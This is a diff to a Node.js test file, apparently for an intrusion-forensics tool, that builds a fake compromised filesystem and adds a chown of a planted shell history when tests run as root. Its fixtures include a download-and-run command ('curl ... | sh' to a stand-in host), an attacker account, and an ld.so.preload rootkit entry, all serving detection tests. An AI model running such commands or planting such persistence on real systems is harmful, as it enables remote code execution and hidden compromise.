@@ -5,7 +5,7 @@
  */
 import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
-import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { chownSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { after, before, describe, it } from 'node:test';
@@ -230,6 +230,11 @@ describe('names that are not UTF-8, written in files: the files they name are re
     named = mkdtempSync(path.join(tmpdir(), 'hades-byte-paths-'));
     write('etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nmallory:x:1001:1001::/home/{bad}:/bin/bash\n');
     write('home/{bad}/.bash_history', 'curl -s http://x.example/a | sh\n');
+    // A history is its account's own file (root reads none it does not own for an account).
+    if (process.getuid?.() === 0) {
+      const file = Buffer.concat([Buffer.from(`${named}/home/`), BAD, Buffer.from('/.bash_history')]);
+      chownSync(file, 1001, 1001);
+    }
     write('home/{bad}/.ssh/authorized_keys', `${KEY} home\n`);
     write('etc/ld.so.preload', '/usr/lib/{bad}/libhide.so\n');
     write('usr/lib/{bad}/libhide.so', 'not really a library');
